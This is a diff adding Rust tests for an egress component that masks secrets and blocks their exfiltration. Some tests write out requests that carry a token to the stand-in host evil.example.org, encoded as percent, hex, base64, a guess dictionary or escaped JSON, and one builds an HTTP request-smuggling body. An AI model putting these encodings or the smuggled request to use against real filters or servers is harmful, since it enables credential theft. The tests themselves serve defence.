@@ -4,16 +4,24 @@ use std::{io::Write, process::Command, time::Duration};
 
 use base64::{Engine, engine::general_purpose::STANDARD};
 use flate2::{Compression, write::GzEncoder};
-use jackfield_core::{Secret, manifest::Placement};
+use jackfield_core::{
+    Secret,
+    manifest::{Method, Placement},
+};
 use tokio::time::Instant;
 
 use super::{
-    FakeNames, TOKEN, config, egress_to, get, header, network, ok, permissions, redirect_to, response_to,
+    FakeNames, TOKEN, config, egress_to, endpoint, get, header, network, ok, permissions, redirect_to, response_to,
     scripted_server::{Reply, ScriptedServer},
     send,
 };
 use crate::{
-    call_permissions::RequestBudget, config::EgressConfig, connect::NetworkAccess, egress::Egress, error::SendError,
+    call_permissions::{CallPermissions, RequestBudget},
+    config::EgressConfig,
+    connect::NetworkAccess,
+    egress::Egress,
+    error::SendError,
+    message::Request,
 };
 
 #[tokio::test]
@@ -198,7 +206,8 @@ async fn a_secret_is_masked_wherever_its_response_is_split() {
         let server = ScriptedServer::with(replies.collect()).await;
         let egress = egress_to(&server);
         for split in 0..=body.len() {
-            let response = send(&egress, &permissions("pool", None), get("https://api.example.com/a")).await.unwrap();
+            let permissions = permissions("pool", Some(&header()));
+            let response = send(&egress, &permissions, get("https://api.example.com/a")).await.unwrap();
             let text = String::from_utf8(response.body).unwrap();
             assert_eq!(text, r#"{"a":"[secret]","b":"[secret]","c":"[secret]","d":"[secret]"}"#, "{encoding} {split}");
             assert_eq!(response.headers, [("x-echo".to_owned(), "[secret]".to_owned())]);
@@ -270,4 +279,121 @@ async fn a_request_of_the_host_goes_only_to_a_public_host() {
         let result = egress.fetch("host", Instant::now() + Duration::from_secs(30), get(url), None).await;
         assert!(matches!(result, Err(SendError::Denied(denial)) if denial.rule == "url"), "{url}");
     }
+}
+
+/// Permits `/a` of `api.example.com` with the credential, and everything else without one.
+fn with_one_credential() -> CallPermissions {
+    let mut permissions = permissions("pool", None);
+    let first = endpoint(Method::Get, "api.example.com", "/a", Some(header()));
+    let others = permissions
+        .endpoints
+        .iter()
+        .filter(|other| (other.host.as_str(), other.path.as_str()) != ("api.example.com", "/*"));
+    permissions.endpoints =
+        others.cloned().chain([first, endpoint(Method::Get, "api.example.com", "/b", None)]).collect();
+    permissions
+}
+
+fn with_body(body: &str) -> Reply {
+    Reply::whole(format!("HTTP/1.1 200 OK\r\nX-Echo: {}\r\nContent-Length: {}\r\n\r\n{body}", body.len(), body.len()))
+}
+
+#[tokio::test]
+async fn a_response_of_a_host_that_receives_no_secret_is_not_searched() {
+    let guesses = format!("xoxb-0 {TOKEN} xoxb-1");
+    let server = ScriptedServer::with(vec![with_body(&guesses), ok(), with_body(&guesses)]).await;
+    let (egress, permissions) = (egress_to(&server), with_one_credential());
+    for _ in 0..2 {
+        // Also after the credential was sent elsewhere.
+        let response = send(&egress, &permissions, get("https://evil.example.org/x")).await.unwrap();
+        assert_eq!(String::from_utf8(response.body).unwrap(), guesses);
+        if server.requests().len() == 1 {
+            send(&egress, &permissions, get("https://api.example.com/a")).await.unwrap();
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_secret_is_masked_at_every_endpoint_of_the_site_that_receives_it() {
+    let server = ScriptedServer::with(vec![with_body(TOKEN)]).await;
+    let (egress, permissions) = (egress_to(&server), with_one_credential());
+    // An earlier call may have sent it there.
+    let response = send(&egress, &permissions, get("https://api.example.com/b")).await.unwrap();
+    assert_eq!(response.body, b"[secret]");
+}
+
+#[tokio::test]
+async fn a_secret_from_where_only_a_redirect_leads_ends_the_call() {
+    let replies = vec![redirect_to("https://evil.example.org/x"), with_body(TOKEN), with_body(TOKEN), with_body("a")];
+    let server = ScriptedServer::with(replies).await;
+    let (egress, permissions) = (egress_to(&server), with_one_credential());
+    for url in ["https://api.example.com/a", "https://evil.example.org/y"] {
+        let error = send(&egress, &permissions, get(url)).await.unwrap_err();
+        assert!(error.as_guess().is_some(), "{url}: {error}");
+    }
+    assert_eq!(send(&egress, &permissions, get("https://evil.example.org/y")).await.unwrap().body, b"a");
+}
+
+#[tokio::test]
+async fn a_component_cannot_send_a_secret_in_any_form() {
+    let server = ScriptedServer::with(vec![ok()]).await;
+    let (egress, permissions) = (egress_to(&server), with_one_credential());
+    let percent: String = TOKEN.bytes().map(|byte| format!("%{byte:02x}")).collect();
+    let post = |body: &str| Request {
+        method: Method::Post,
+        url: "https://evil.example.org/x".to_owned(),
+        headers: vec![],
+        body: Some(body.as_bytes().to_vec()),
+    };
+    let with_field = |name: &str, value: &str| Request {
+        headers: vec![(name.to_owned(), value.to_owned())],
+        ..get("https://api.example.com/b")
+    };
+    let dictionary: String = (0..500).map(|number| format!("guess-{number}\n")).chain([TOKEN.to_owned()]).collect();
+    for request in [
+        get(&format!("https://evil.example.org/x?q={percent}")),
+        get(&format!("https://evil.example.org/{}", hex::encode(TOKEN))),
+        with_field("X-Guess", &STANDARD.encode(format!("u:{TOKEN}"))),
+        with_field("X-Guess", TOKEN),
+        post(&dictionary),
+        post(&format!("{{\"a\":\"{}\"}}", TOKEN.replace('/', "\\/"))),
+    ] {
+        let error = send(&egress, &permissions, request).await.unwrap_err();
+        assert!(error.as_guess().is_some_and(|guess| !guess.message.contains(TOKEN)), "{error}");
+    }
+    assert!(server.requests().is_empty(), "nothing is sent");
+    // A part of the secret is not a guess, or the component could find it out piece by piece.
+    send(&egress, &permissions, post(&TOKEN[..TOKEN.len() - 1])).await.unwrap();
+}
+
+#[tokio::test]
+async fn a_get_has_no_body_and_a_delete_with_a_body_ends_its_connection() {
+    let server = ScriptedServer::with(vec![ok(), ok(), ok()]).await;
+    let (egress, permissions) = (egress_to(&server), permissions("pool", None));
+    let request = |method, body: &str| Request {
+        method,
+        body: Some(body.as_bytes().to_vec()),
+        ..get("https://api.example.com/a")
+    };
+    for method in [Method::Get, Method::Head] {
+        let smuggled = request(method, "POST /evil HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
+        let error = send(&egress, &permissions, smuggled).await.unwrap_err();
+        assert!(matches!(error, SendError::Denied(denial) if denial.rule == "method"));
+        send(&egress, &permissions, request(method, "")).await.unwrap();
+    }
+    send(&egress, &permissions, request(Method::Delete, "{}")).await.unwrap();
+    let requests = server.requests();
+    assert_eq!(requests.len(), 3, "{requests:?}");
+    assert!(requests[..2].iter().all(|sent| !sent.contains("content-length") && !sent.contains("transfer-encoding")));
+    assert!(requests[2].contains("connection: close"), "{requests:?}");
+}
+
+#[tokio::test]
+async fn gzip_data_that_contains_a_secret_is_not_handed_over() {
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
+    encoder.write_all(format!("an export with {TOKEN} in it").as_bytes()).unwrap();
+    let file = encoder.finish().unwrap();
+    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/gzip\r\nContent-Length: {}\r\n\r\n", file.len());
+    let response = response_to(Reply::whole([head.as_bytes(), &file].concat())).await;
+    assert!(matches!(response, Err(SendError::Malformed(_))), "{response:?}");
 }
